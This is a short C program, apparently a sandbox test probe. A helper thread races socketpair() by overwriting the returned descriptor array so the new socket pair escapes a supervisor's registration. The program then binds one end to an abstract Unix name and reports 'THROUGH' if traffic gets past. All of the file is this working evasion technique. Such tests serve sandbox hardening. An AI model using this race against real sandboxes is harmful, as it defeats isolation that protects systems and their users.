/* Hides a new socket pair from its registration by changing sv[], then names an end so that it is no pair. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

__attribute__((unused)) static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

__attribute__((unused)) static void end(int won, const char *why)
{
    if (won)
        printf("THROUGH\n");
    else
        printf("stopped: %s\n", why);
    fflush(stdout);
    _exit(won ? 0 : 1);
}

/* Reads what is there: 1 if a byte other than `own` was among it; own 0: if there were two values. */
__attribute__((unused)) static int foreign(int fd, int own)
{
    unsigned char bytes[65536];
    struct pollfd p = {fd, POLLIN, 0};
    while (poll(&p, 1, 0) > 0 && (p.revents & POLLIN)) {
        ssize_t n = read(fd, bytes, sizeof bytes);
        if (n <= 0)
            break;
        if (!own)
            own = bytes[0];
        for (ssize_t i = 0; i < n; i++)
            if (bytes[i] != own)
                return 1;
    }
    return 0;
}

static volatile int sv[2], go, quit;

static void *flip(void *unused)
{
    (void)unused;
    while (!quit)
        if (go)
            sv[0] = sv[1] = -1;
    return NULL;
}

static int attempt(void)
{
    int a, b;
    struct sockaddr_un name = {AF_UNIX, ""};
    int length = snprintf(name.sun_path + 1, 100, "scpipe-attack-%d", getpid());
    pthread_t thread;
    pthread_create(&thread, NULL, flip, NULL);
    a = dup(0);
    b = dup(0);
    close(a);
    close(b);
    go = 1;
    socketpair(AF_UNIX, SOCK_DGRAM, 0, (int *)sv);
    go = 0;
    bind(b, (struct sockaddr *)&name, sizeof(sa_family_t) + 1 + length);
    write(a, "A", 1);
    write(a, "B", 1);
    return foreign(b, 0);
}

int main(void)
{
    double until = now() + 2;
    while (now() < until) {
        int status;
        pid_t pid = fork();
        if (!pid)
            _exit(!attempt());
        waitpid(pid, &status, 0);
        if (status == 0)
            end(1, "");
    }
    end(0, "a pair nobody saw being made stays refused");
}
